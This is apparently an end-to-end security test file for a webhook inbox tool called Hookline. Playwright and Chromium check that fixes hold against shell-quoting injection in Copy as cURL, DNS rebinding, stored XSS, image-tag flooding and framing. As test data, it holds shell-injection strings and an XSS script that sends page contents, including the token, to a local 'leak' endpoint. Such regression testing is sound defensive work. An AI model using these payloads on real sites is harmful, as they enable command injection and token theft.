// Security, end to end: a real `hookline serve`, a real Chromium, and a
// hostile web page served from ANOTHER loopback port (and, through
// Chromium's host resolver, from a foreign name that resolves to 127.0.0.1,
// as DNS rebinding does). Each test is one finding of issue 10.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { mkdtempSync, readdirSync, rmSync } from 'node:fs';
import { createServer, request } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { chromium } from 'playwright-core';
import { binary, startHookline } from '../lib/hookline.mjs';
import { restClient } from '../lib/rest.mjs';

const REBIND = 'rebind.attacker.test';
let hl, rest, browser, hostile;

/** The attacker's server: serves the pages in `pages` and records every request. */
async function startHostile() {
  const pages = new Map();
  const seen = [];
  const server = createServer((req, res) => {
    seen.push(req.url);
    const html = pages.get(req.url.split('?')[0]);
    res.writeHead(html ? 200 : 404, { 'Content-Type': 'text/html' });
    res.end(html ?? 'nothing here');
  });
  await new Promise((r) => server.listen(0, '127.0.0.1', r));
  const port = server.address().port;
  return { port, url: `http://127.0.0.1:${port}`, pages, seen, close: () => new Promise((r) => server.close(r)) };
}

before(async () => {
  hl = await startHookline();
  rest = await restClient(hl.url);
  hostile = await startHostile();
  browser = await chromium.launch({
    executablePath: process.env.CHROMIUM ?? '/usr/bin/chromium',
    headless: true,
    args: [
      '--headless', '--no-sandbox', '--disable-gpu', '--no-first-run', '--disable-background-networking',
      '--disable-component-update', '--disable-sync', '--disable-quic',
      // The attacker's name resolves to this machine, as after a DNS rebind.
      `--host-resolver-rules=MAP ${REBIND} 127.0.0.1`,
    ],
  });
});
after(async () => {
  await browser?.close();
  await hostile?.close();
  await hl?.stop();
});

/** Sends a raw request (any method, any path bytes) and returns status and body. */
function raw(method, path, headers, body) {
  const u = new URL(hl.url);
  return new Promise((resolve, reject) => {
    const req = request({ host: u.hostname, port: u.port, method, path, headers }, (res) => {
      let text = '';
      res.on('data', (d) => (text += d));
      res.on('end', () => resolve({ status: res.statusCode, headers: res.headers, body: text }));
    });
    req.on('error', reject);
    req.end(body);
  });
}

/** Runs a copied command in sh with curl replaced by a function that prints its arguments. */
function runCopied(cmd) {
  const dir = mkdtempSync(join(tmpdir(), 'hookline-paste-'));
  try {
    const fake = `curl() { for a in "$@"; do printf '%s\\0' "$a"; done; printf 'STDIN\\0'; cat; }\n`;
    const r = spawnSync('sh', ['-c', fake + cmd], { cwd: dir, input: '', encoding: 'utf8' });
    const parts = r.stdout.split('\0');
    const at = parts.indexOf('STDIN');
    return { status: r.status, stderr: r.stderr, argv: parts.slice(0, at), stdin: parts.slice(at + 1).join('\0'), files: readdirSync(dir) };
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
}

test("finding 1: Copy as cURL of a hostile request runs nothing; a method such as X' is refused", async () => {
  assert.equal((await rest.post('/api/v1/inboxes', { name: 'curl' })).status, 201);
  // The reported attack: a method that flips the quoting.
  const refused = await raw("X'", '/inbox/curl', { 'Content-Type': 'text/plain' }, ';touch pwned;#');
  assert.equal(refused.status, 400);
  assert.match(JSON.parse(refused.body).message, /letters/);
  // What an inbox still records must come out quoted.
  const body = `';touch pwned;#\n$(touch pwned) \`touch pwned\``;
  const sent = await raw('PUT', "/inbox/curl/a'b$(touch)?q='x;touch%20pwned`", {
    'Content-Type': 'text/plain',
    'X-Evil': "v'; touch pwned; echo '",
    'X-Sub': '$(touch pwned)',
  }, body);
  assert.equal(sent.status, 200);
  const id = sent.headers['hookline-request-id'];

  const context = await browser.newContext({ permissions: ['clipboard-read', 'clipboard-write'] });
  const page = await context.newPage();
  try {
    await page.goto(`${hl.url}/#/inbox/curl/${id}`);
    const detail = page.locator(`[data-testid="request-detail"][data-request-id="${id}"]`);
    await detail.locator('[data-testid="copy-curl"]').click();
    await detail.locator('[data-testid="curl-text"]').waitFor();
    const cmd = await page.evaluate(() => navigator.clipboard.readText());
    assert.equal(cmd, await detail.locator('[data-testid="curl-text"]').textContent());
    const run = runCopied(cmd);
    assert.equal(run.stderr, '');
    assert.equal(run.status, 0);
    assert.deepEqual(run.files, [], 'the pasted command created files');
    assert.deepEqual(run.argv.slice(0, 2), ['-X', 'PUT']);
    assert.ok(run.argv[2].startsWith(`${hl.url}/inbox/curl/a`), run.argv[2]);
    assert.ok(run.argv.includes("X-Evil: v'; touch pwned; echo '"), run.argv.join(' | '));
    assert.ok(run.argv.includes('X-Sub: $(touch pwned)'), run.argv.join(' | '));
    assert.deepEqual(run.argv.slice(-2), ['--data-raw', body]);
  } finally {
    await context.close();
  }
});

test('finding 2: a page on a rebound name gets neither the UI, the token nor the keys, even with --allow-remote', async () => {
  const key = 'e2e-remote-key-' + 'x'.repeat(32);
  const remote = await startHookline({ args: ['--allow-remote', '--allowed-hosts', 'hookline.lan'], env: { HOOKLINE_API_KEY: key } });
  const page = await browser.newPage();
  try {
    const port = new URL(remote.url).port;
    const evil = `http://${REBIND}:${port}`;
    const res = await page.goto(evil + '/');
    assert.equal(res.status(), 403);
    assert.match(await page.content(), /is not allowed/);
    assert.doesNotMatch(await page.content(), /hookline-session/);
    // From the rebound origin itself, the API refuses everything.
    const answers = await page.evaluate(async () => {
      const out = [];
      for (const p of ['/api/ui/keys', '/api/v1/content/_webhooks', '/api/health']) out.push((await fetch(p)).status);
      out.push((await fetch('/api/ui/demo', { method: 'POST' })).status);
      return out;
    });
    assert.deepEqual(answers, [403, 403, 403, 403]);
    // The same server still serves this machine under a loopback name, with the token.
    const own = await (await fetch(remote.url + '/')).text();
    assert.match(own, /name="hookline-session"/);
  } finally {
    await page.close();
    await remote.stop();
  }
  // And --allow-remote without a key refuses to start, even on loopback.
  const noKey = spawnSync(binary,
    ['serve', '--addr', '127.0.0.1:0', '--allow-remote'], { encoding: 'utf8', env: { ...process.env, HOOKLINE_API_KEY: '' } });
  assert.equal(noKey.status, 2);
  assert.match(noKey.stderr, /needs an API key/);
});

test('finding 3: navigating to an inbox whose answer is a <script> runs nothing and reads no token', async () => {
  const leak = `${hostile.url}/leak`;
  const script = `<script>document.title='ran';fetch('/').then(r=>r.text()).then(t=>{new Image().src='${leak}?'+encodeURIComponent(t.slice(0,400))});` +
    `navigator.serviceWorker&&navigator.serviceWorker.register('/inbox/evil/sw.js',{scope:'/'}).catch(()=>{});</script>`;
  assert.equal((await rest.post('/api/v1/inboxes', { name: 'evil', body: script })).status, 201);
  assert.equal((await rest.post('/api/v1/inboxes', { name: 'evilhtml', body: script, headers: { 'Content-Type': 'text/html' } })).status, 201);
  const withSW = await rest.post('/api/v1/inboxes', { name: 'sw', headers: { 'Service-Worker-Allowed': '/' } });
  assert.equal(withSW.status, 400);
  assert.match(withSW.body.headers[0], /Service-Worker-Allowed/);

  hostile.pages.set('/go', `<!doctype html><p>hi</p><script>location = ${JSON.stringify(hl.url + '/inbox/evil')}</script>`);
  const context = await browser.newContext();
  try {
    // Sent there by the hostile page: a browser marks the navigation
    // same-site, and the inbox refuses it outright.
    const page = await context.newPage();
    const answers = [];
    page.on('response', (r) => { if (r.url().startsWith(hl.url)) answers.push(r); });
    await page.goto(hostile.url + '/go');
    await page.waitForURL(hl.url + '/inbox/evil');
    await page.waitForTimeout(1000);
    assert.equal(answers[0].status(), 403);
    // Opened directly (a bookmark, a typed URL: Sec-Fetch-Site none), the
    // answer is served, but inert: sandboxed, not sniffed, plain text.
    const direct = await context.newPage();
    const res = await direct.goto(hl.url + '/inbox/evil');
    assert.equal(res.status(), 200);
    const h = await res.allHeaders();
    assert.match(h['content-security-policy'] ?? '', /^sandbox/);
    assert.equal(h['x-content-type-options'], 'nosniff');
    assert.equal(h['content-type'], 'text/plain; charset=utf-8');
    await direct.waitForTimeout(1500);
    // Even an answer scripted as text/html stays inert: the sandbox keeps
    // its script from running.
    const html = await context.newPage();
    const hres = await html.goto(hl.url + '/inbox/evilhtml');
    assert.equal((await hres.allHeaders())['content-type'], 'text/html');
    assert.match((await hres.allHeaders())['content-security-policy'] ?? '', /^sandbox/);
    assert.equal(await html.locator('script').count(), 1, 'the answer is HTML with its script');
    await html.waitForTimeout(1500);
    for (const p of [page, direct, html]) assert.notEqual(await p.evaluate(() => document.title), 'ran');
    // Control: the same bytes served without the sandbox do run, so the
    // checks above can tell.
    hostile.pages.set('/control', `<!doctype html><script>document.title='ran'</script>`);
    const control = await context.newPage();
    await control.goto(hostile.url + '/control');
    assert.equal(await control.evaluate(() => document.title), 'ran');
    // The sandboxed answer cannot even reach the service worker API; and
    // Hookline's own origin has no worker registered.
    const ui = await context.newPage();
    await ui.goto(hl.url + '/');
    assert.equal(await ui.evaluate(async () => (await navigator.serviceWorker.getRegistrations()).length), 0);
    assert.equal(hostile.seen.filter((u) => u.startsWith('/leak')).length, 0, 'the planted page leaked: ' + hostile.seen.join(' '));
    assert.equal((await rest.get('/api/v1/inboxes/evil/requests')).body.total_count, 1, 'only the direct visit is recorded');
    assert.equal((await rest.get('/api/v1/inboxes/evilhtml/requests')).body.total_count, 1);
  } finally {
    await context.close();
  }
});

test('finding 6: <img> requests from other sites do not fill an inbox', async () => {
  assert.equal((await rest.post('/api/v1/inboxes', { name: 'demo' })).status, 201);
  const imgs = Array.from({ length: 40 }, (_, i) => `<img src="${hl.url}/inbox/demo?fill=${i}&pad=${'x'.repeat(2000)}">`).join('');
  hostile.pages.set('/imgs', `<!doctype html>${imgs}`);
  for (const origin of [hostile.url, `http://${REBIND}:${hostile.port}`]) {
    const page = await browser.newPage();
    try {
      await page.goto(origin + '/imgs', { waitUntil: 'load' });
      await page.waitForTimeout(300);
    } finally {
      await page.close();
    }
  }
  const list = await rest.get('/api/v1/inboxes/demo/requests');
  assert.equal(list.body.total_count, 0, 'requests from <img> tags were recorded');
  // A sender that is not a browser still gets through.
  const ok = await fetch(hl.url + '/inbox/demo', { method: 'POST', body: '{}', headers: { 'Content-Type': 'application/json' } });
  assert.equal(ok.status, 200);
  assert.equal((await rest.get('/api/v1/inboxes/demo/requests')).body.total_count, 1);
});

test("the UI works under its own strict CSP (no inline script), CodeMirror included", async () => {
  const sent = await fetch(hl.url + '/inbox/demo', { method: 'POST', body: '{"a":[1,2,{"b":true}]}', headers: { 'Content-Type': 'application/json' } });
  const id = sent.headers.get('hookline-request-id');
  const context = await browser.newContext();
  await context.addInitScript(() => {
    window.__csp = [];
    document.addEventListener('securitypolicyviolation', (e) => window.__csp.push(`${e.violatedDirective} ${e.blockedURI}`));
  });
  const page = await context.newPage();
  const errors = [];
  page.on('pageerror', (e) => errors.push(e.message));
  page.on('console', (m) => { if (/Content Security Policy/i.test(m.text())) errors.push(m.text()); });
  try {
    const res = await page.goto(`${hl.url}/#/inbox/demo/${id}`);
    const csp = res.headers()['content-security-policy'];
    assert.match(csp, /script-src 'self';/);
    assert.match(csp, /frame-ancestors 'none'/);
    await page.waitForSelector(`[data-testid="request-detail"][data-request-id="${id}"] [data-testid="request-body-json"] .cm-content`);
    for (const route of ['#/content', '#/types', '#/webhooks', '#/settings']) {
      await page.goto(`${hl.url}/${route}`);
      await page.waitForSelector('main h1');
    }
    assert.deepEqual(await page.evaluate(() => window.__csp), []);
    assert.deepEqual(errors, []);
    // A page elsewhere cannot frame the UI.
    hostile.pages.set('/frame', `<!doctype html><iframe src="${hl.url}/"></iframe>`);
    const framer = await context.newPage();
    await framer.goto(hostile.url + '/frame');
    await framer.waitForTimeout(500);
    const frame = framer.frames().find((f) => f.url().startsWith(hl.url));
    const framed = frame ? await frame.evaluate(() => !!document.querySelector('main')).catch(() => false) : false;
    assert.equal(framed, false, 'the UI rendered inside a foreign frame');
  } finally {
    await context.close();
  }
});
